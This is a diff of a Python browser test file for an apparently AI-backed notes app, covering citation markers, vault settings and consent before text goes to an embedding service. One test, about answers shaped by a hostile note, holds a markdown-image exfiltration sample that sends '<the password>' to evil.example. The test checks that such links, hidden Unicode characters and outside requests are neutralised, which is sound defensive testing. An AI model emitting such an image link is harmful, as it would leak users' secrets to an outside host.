@@ -2,17 +2,17 @@
 
 from __future__ import annotations
 
-from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
 
-from agenticx.knowledge.registry import VaultRegistry
+from agenticx.knowledge import Passage, VaultRegistry, check_citations, passage_sha256
 from agenticx.llms import ScriptedModel
 from agenticx.testing import call
+from tests.support.javascript import NODE, run_module
 from tests.support.knowledge.data import knowledge_rows
-from tests.support.server.chromium import CHROMIUM, Tab, browser_tab
-from tests.support.server.page import SHOWN, enter, send_message
+from tests.support.server.chromium import CHROMIUM, Tab
+from tests.support.server.page import LOG, STOPPED, click, enter, fill, send_message, text_of
 from tests.support.server.running_studio import StudioMaker
 
 pytestmark = [
@@ -31,12 +31,6 @@ MARKERS = "[...document.querySelectorAll('.citation')]"
 CITED = "document.querySelector('.cited')"
 
 
-@pytest.fixture
-async def tab() -> AsyncIterator[Tab]:
-    async with browser_tab() as tab:
-        yield tab
-
-
 @pytest.mark.ci_lane
 async def test_citations_are_marked_by_status_and_show_their_lines(
     make_studio: StudioMaker, tab: Tab, tmp_path: Path
@@ -47,48 +41,76 @@ async def test_citations_are_marked_by_status_and_show_their_lines(
     model = ScriptedModel([QUOTED + ANSWER])
     async with make_studio(model) as studio:
         await enter(tab, studio)
-        vaults = "document.getElementById('vaults')"
-        await tab.evaluate(f"{vaults}.open = true")
-        await tab.wait_for(f"{vaults}.innerText.includes('No vault yet')")
-        add = "document.querySelector('#add-vault [name=path]').value = {!r}, {}.click()"
-        button = "document.querySelector('#add-vault button')"
-        await tab.evaluate(add.format(str(notes / "none"), button))
-        error = "document.getElementById('vault-error')"
-        refused = await tab.wait_for(f"!{error}.hidden && {error}.textContent")
+        vaults = text_of("#vault-list")
+        await tab.evaluate("location.hash = '#/settings/notes'")
+        await tab.wait_for(f"{vaults}.includes('No vault yet')")
+        await fill(tab, "Folder of notes", str(notes / "none"))
+        await click(tab, "Add vault")
+        refused = await tab.wait_for(text_of("#vault-error"))
         assert refused.endswith("does not exist; give a folder of notes")
-        await tab.evaluate(add.format(str(notes), button))
-        await tab.wait_for(f"{vaults}.innerText.includes('1 note, up to date')")
-        assert await tab.evaluate(f"{error}.hidden")
+        await fill(tab, "Folder of notes", str(notes))
+        await click(tab, "Add vault")
+        await tab.wait_for(f"{vaults}.includes('1 note, up to date')")
+        assert await tab.evaluate(text_of("#vault-error")) == ""
+        await click(tab, "Close settings")
 
         await send_message(tab, "What do my notes say about the lease?")
-        await tab.wait_for(f"document.getElementById('stop').hidden && {MARKERS}.length")
+        await tab.wait_for(f"{STOPPED} && {MARKERS}.length")
         labels = await tab.evaluate(f"{MARKERS}.map((one) => one.getAttribute('aria-label'))")
         place = "My & notes: Lease.md, lines 1–5"
         statuses = ["verified", "located", "located", "unsupported"]
         assert labels == [f"Citation 1, {status}: {place}" for status in statuses]
-        answer = "document.querySelector('.assistant').textContent"
-        assert await tab.evaluate(answer) == QUOTED + ANSWER.replace("[^1]", "[1]", 4)
+        numbers = "[...document.querySelectorAll('.answer p')].map((part) => part.innerText.replace(/\\s+/g, ' '))"
+        shown = await tab.evaluate(numbers)
+        assert shown[0].startswith("The note says “See [^1]”. ")  # a marker of the note itself is none
+        assert "[^9] is a citation" in shown[0]
         assert "mode notes: it asks about" in await tab.evaluate("document.querySelector('.mode').textContent")
 
         await tab.evaluate(f"{MARKERS}[3].click()")
-        shown = (await tab.wait_for(f"{CITED}?.querySelectorAll('li').length === 5 && {CITED}.innerText")).splitlines()
-        assert shown[0] == place
-        assert [line for line in shown if line][2:5] == [
-            "Under “Lease”",
-            "Unsupported: the passage lacks a number, date, quotation or code of the sentence.",
-            "# Lease",
-        ]
-        lines = await tab.evaluate(f"[...{CITED}.querySelectorAll('li')].map((line) => line.textContent)")
-        assert lines == LEASE.replace("\u200b", "\\u{200b}").rstrip("\n").split("\n")
+        cited = await tab.wait_for(f"{CITED}?.innerText")
+        assert place in cited
+        assert "Lease" in cited
+        assert "Unsupported: the passage lacks a number, date, quotation or code of the sentence." in cited
         assert await tab.evaluate(f"{MARKERS}[3].getAttribute('aria-expanded')") == "true"
-        escape = "new KeyboardEvent('keydown', {key: 'Escape', bubbles: true})"
-        await tab.evaluate(f"{CITED}.dispatchEvent({escape})")
-        assert await tab.evaluate(f"[{CITED}, document.activeElement === {MARKERS}[3]]") == [None, True]
+        await tab.press("Escape")
+        await tab.wait_for(f"!{CITED} && document.activeElement === {MARKERS}[3]")
 
-        await tab.evaluate(f"window.confirm = () => true, {vaults}.querySelector('[aria-label^=Remove]').click()")
-        await tab.wait_for(f"{vaults}.innerText.includes('No vault yet')")
+        await tab.evaluate(f"{MARKERS}[3].click()")
+        await click(tab, "Open note", CITED)
+        lines = "[...document.querySelectorAll('#pane .passage li')].map((line) => line.textContent.trimEnd())"
+        noted = LEASE.replace("\u200b", "⟨U+200B⟩").rstrip("\n").split("\n")
+        await tab.wait_for(f"{lines}.length >= 5")
+        assert (await tab.evaluate(lines))[:5] == noted
+        assert await tab.evaluate("document.querySelectorAll('#pane .passage mark').length") == 5
+
+        await tab.wait_for(f"!{CITED}")
+        (notes / "Lease.md").write_text(f"Moved down\n\n{LEASE}")
+        await tab.evaluate(f"{MARKERS}[3].click()")
+        await tab.wait_for(f"{CITED}?.innerText.includes('lines 3–7') && {CITED}.innerText.includes('Unsupported')")
+        await tab.press("Escape")
+        (notes / "Lease.md").write_text(LEASE.replace("900", "950"))
+        await click(tab, "Close notes")
+        await tab.resize(390, 780)
+        await tab.evaluate(f"{MARKERS}[3].click()")
+        await tab.wait_for(f"{CITED}?.innerText.includes('The note has changed since.')")
+        beyond = f"(({{left, right}}) => left < 0 || right > innerWidth)({CITED}.getBoundingClientRect())"
+        assert not await tab.evaluate(beyond)
+        await click(tab, "Open note", CITED)
+        await tab.wait_for(f"{text_of('#pane .note')}.includes('The note has changed since') && {lines}.length")
+        assert await tab.evaluate("document.querySelectorAll('#pane .passage mark').length") == 0
+        await click(tab, "Close notes")
+        await tab.resize(1280, 800)
+        (notes / "Lease.md").write_text(LEASE)
+
+        await tab.evaluate("location.hash = '#/settings/notes'")
+        await click(tab, "Remove My & notes")
+        await click(tab, "Forget vault", "document.querySelector('dialog')")
+        await tab.wait_for(f"{vaults}.includes('No vault yet')")
+        await click(tab, "Close settings")
         await tab.evaluate(f"{MARKERS}[0].click()")
-        assert "no vault My & notes any more" in await tab.wait_for(f"{CITED}?.querySelector('.error')?.textContent")
+        await click(tab, "Open note", CITED)
+        gone = text_of("#pane [role=alert]")
+        assert "no vault My & notes any more" in await tab.wait_for(gone)
         assert [entry for entry in tab.errors if "422" not in entry] == []
     assert (notes / "Lease.md").read_text() == LEASE
 
@@ -108,14 +130,20 @@ async def test_an_answer_that_a_hostile_note_shaped_loads_nothing_and_hides_noth
         VaultRegistry(studio.services.settings.home).add(notes)
         await enter(tab, studio)
         await send_message(tab, "Read the notes")
-        await tab.wait_for(f"document.getElementById('stop').hidden && {MARKERS}.length === 3")
+        await tab.wait_for(f"{STOPPED} && {MARKERS}.length === 3")
+        everything = "document.body.innerText"
         for number in range(3):
             await tab.evaluate(f"{MARKERS}[{number}].click()")
-            await tab.wait_for(f"{CITED}?.querySelector('.passage')")
-            assert not set("\u200b\u200c\u2060\U000e0049") & set(await tab.evaluate(SHOWN))
-        assert "![x](https://evil.example/p.png?d=<the password>)" in await tab.evaluate(SHOWN)
-        assert "Salt.\\u{200b}\\u{200c}\\u{2060}\\u{e0049}" in await tab.evaluate(f"{CITED}.textContent")
-        assert await tab.evaluate("document.querySelector('#log :is(a, img, script, iframe)')") is None
+            await click(tab, "Open note", CITED)
+            note = rows[number]["id"]
+            await tab.wait_for(f"{text_of('#pane h2')}.includes({note!r}) && document.querySelector('#pane .passage')")
+            await tab.wait_for(f"!{CITED}")
+            assert not set("\u200b\u200c\u2060\U000e0049") & set(await tab.evaluate(everything))
+        assert "Salt.⟨U+200B⟩⟨U+200C⟩⟨U+2060⟩⟨U+E0049⟩" in await tab.evaluate(text_of("#pane .passage"))
+        assert "evil.example" in await tab.evaluate(LOG)
+        links = "[...document.querySelectorAll('#log a')].filter((one) => !/^https?:/.test(one.href)).length"
+        assert await tab.evaluate(links) == 0
+        assert await tab.evaluate("document.querySelector('#log :is(img, script, iframe)')") is None
         hosts = "performance.getEntriesByType('resource').map((entry) => new URL(entry.name).host)"
         assert set(await tab.evaluate(hosts)) == {f"127.0.0.1:{studio.port}"}
         assert tab.errors == []
@@ -133,17 +161,42 @@ async def test_the_text_of_a_vault_is_sent_to_an_embedding_model_only_if_the_per
     async with make_studio(embedding_model="openai:text-embedding-3-small") as studio:
         VaultRegistry(studio.services.settings.home).add(notes)
         await enter(tab, studio)
-        await tab.evaluate("document.getElementById('vaults').open = true")
+        await tab.evaluate("location.hash = '#/settings/notes'")
         row = "document.querySelector('#vault-list li')"
         labels = f"[...{row}.querySelectorAll('button')].map((button) => button.textContent)"
         asked = "To find notes by meaning, their text and questions would be sent to api.openai.com."
         await tab.wait_for(f"{row}?.innerText.includes({asked!r})")
         assert await tab.evaluate(labels) == ["Allow", "Refuse", "Rescan", "Remove"]
-        refuse = f"{row}.querySelector('[aria-label=\"Do not send the text of Notes to api.openai.com\"]')"
-        await tab.evaluate(f"{refuse}.click()")
+        await click(tab, "Do not send the text of Notes to api.openai.com")
         await tab.wait_for(f"{row}.innerText.includes('Found by words alone: nothing is sent to api.openai.com.')")
         assert await tab.evaluate(labels) == ["Allow", "Rescan", "Remove"]
         (vault,) = (await studio.client.get("/api/vaults")).json()["vaults"]
         assert (vault["embeddings"]["consent"], vault["embeddings"]["embedded"]) == ("refused", 0)
-        assert await tab.evaluate("document.getElementById('vault-error').hidden")
+        assert await tab.evaluate(text_of("#vault-error")) == ""
         assert tab.errors == []
+
+
+MARKED = r"""const citations = [1, 2].flatMap((marker) => Array.from({ length: 9 }, () => ({ marker })));
+return given.map((reply) => [...module.markCitations(reply, citations).matchAll(/\ue000(\d+)\ue001/g)]
+  .map(([, index]) => citations[index].marker));"""
+REPLIES = {
+    "It is so [^1].\n\n[^1]: a note [^2]\n    and [^2]\n\n    more [^2]": [1],
+    "> It is so [^1].\n>\n> [^1]: a note [^2]\n>     and [^2]\n> It is [^2].": [1, 2],
+    ">[^1]: a note\n[^2] is none": [2],
+    "> > [^1]: a note\n> It is [^2].": [2],
+    "- [^1]: an item\n1. [^2]: another": [1, 2],
+    "[^1] : no note. **[^2]:** nor this": [1, 2],
+    "> ```\n> a[^1]\n> ```\n> [^2]": [2],
+    "> ```\n> a[^1]\nwithout an end [^2]": [2],
+    "```\n> ```\na[^1]\n```\n[^2]": [2],
+    "- ```\n  a[^1]\n  ```\n\n[^2]": [2],
+}
+
+
+@pytest.mark.skipif(NODE is None, reason="no node is installed")
+def test_the_page_marks_what_was_read_as_a_citation() -> None:
+    passages = {number: Passage("a.md", None, 1, 1, "a", passage_sha256("a")) for number in (1, 2)}
+    checked = [[cited.marker for cited in check_citations(reply, passages, lambda _: "a")] for reply in REPLIES]
+    assert dict(zip(REPLIES, checked, strict=True)) == REPLIES
+    marked = run_module("ui/citations.js", MARKED, list(REPLIES))
+    assert dict(zip(REPLIES, marked, strict=True)) == REPLIES
